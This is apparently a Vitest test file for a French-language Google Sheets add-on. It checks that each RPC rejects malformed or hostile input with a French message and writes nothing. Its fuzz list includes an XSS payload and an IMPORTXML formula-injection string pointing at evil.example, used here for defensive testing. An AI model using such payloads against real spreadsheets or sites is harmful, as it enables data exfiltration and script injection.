// Issue 6 safety: every RPC the sidebar and dialogs call with google.script.run validates its input
// and answers a French message (a `{ ok: false }` result or a French error for the failure
// handler) — never a JavaScript crash, never a write — whatever arrives over the wire.
import { describe, expect, it } from 'vitest';
import { example } from '../../acceptance/support';

// The menu handlers of SPEC §3 and the input-less snapshot: not RPCs taking a payload.
const MENU = ['boussoleOuvrirPanneau', 'boussoleGenererRapport', 'boussoleActualiserTableauDeBord', 'boussolePointHebdo',
  'boussoleComiteTrimestriel', 'boussoleVerifierSignaux', 'boussolePrioriserBacklog', 'boussoleRepartirBudget', 'boussoleFeuilleDeRouteType',
  'boussolePlanRelance', 'boussoleInitialiser', 'boussoleChargerExemple', 'boussolePartagerConsultant', 'boussolePortefeuille', 'boussoleAide',
  'boussoleDonneesPanneau', 'boussoleCheckListe'];

/** The French answer each RPC must give to a payload it cannot read. */
const EXPECTED: Record<string, RegExp> = {
  boussoleSelectionnerCellules: /^Cellules illisibles : attendu des références comme Plan!G12\.$/,
  boussoleChangerStatut: /^Demande de changement de statut illisible : rechargez le panneau\.$/,
  boussoleAjouterAction: /^Corrigez les champs signalés : rien n’a été ajouté\.$/,
  boussoleOuvrirOnglet: /^Onglet inconnu — attendu : Cadrage, Objectifs, .* ou un rapport\.$/,
  boussolePartagerAvecConsultant: /^Accès inconnu — attendu : lecteur ou editeur\.$/,
  boussoleEnregistrerPointHebdo: /^Compte rendu non enregistré : (saisie illisible, rouvrez la fenêtre|Date : attendu une date réelle, ex\. 23\/11\/2026)\.$/,
  boussoleOuvrirRituel: /^(Rituel illisible : actualisez le panneau\.|Rituel « .* » inconnu — attendu : Point hebdo, .*\. Actualisez le panneau\.)$/,
  boussoleGenererRapportPour: /n’est pas un mois valide : .*au format AAAA-MM/,
  boussoleSignaux: /n’est pas un mois valide : .*au format AAAA-MM/,
  boussoleComiteTrimestrielPour: /n’est pas un trimestre valide : .*au format AAAA-Tn/,
};

/** What a broken or hostile client could send. */
const GARBAGE: unknown[] = [undefined, null, 42, 'x', true, {}, [], [[1]], { id: 7, ligne: 'a', statut: null },
  { action: {}, mois: [], responsable: 5 }, '<img src=x onerror=alert(1)>', '=IMPORTXML("http://evil.example";"//a")'];

/** The RPC's answer as text: its message, or the message of the error it threw. */
function answer(run: () => unknown): string {
  try {
    const result = run() as { ok?: unknown; message?: unknown } | undefined;
    expect(result?.ok).toBe(false);
    return String(result?.message);
  } catch (error) {
    return (error as Error).message;
  }
}

describe('RPCs with unreadable input', () => {
  const emu = example();

  it('the bundle exposes exactly these payload-taking RPCs (a new one must be added here)', () => {
    const globals = emu.globalNames().filter((n) => n.startsWith('boussole') && !MENU.includes(n));
    expect(globals.sort()).toEqual(Object.keys(EXPECTED).sort());
  });

  for (const [rpc, expected] of Object.entries(EXPECTED)) {
    it(`${rpc} answers every garbage payload in French and writes nothing`, () => {
      const before = emu.book.snapshot();
      for (const payload of GARBAGE) {
        const message = answer(() => emu.run(rpc, payload));
        expect(message, `${rpc}(${JSON.stringify(payload)})`).toMatch(expected);
        expect(message).not.toMatch(/TypeError|Cannot read|undefined|is not a function|n’a pas pu aboutir/);
      }
      expect(emu.book.snapshot()).toEqual(before);
      expect(emu.shares).toEqual({ viewers: [], editors: [] });
    });
  }
});
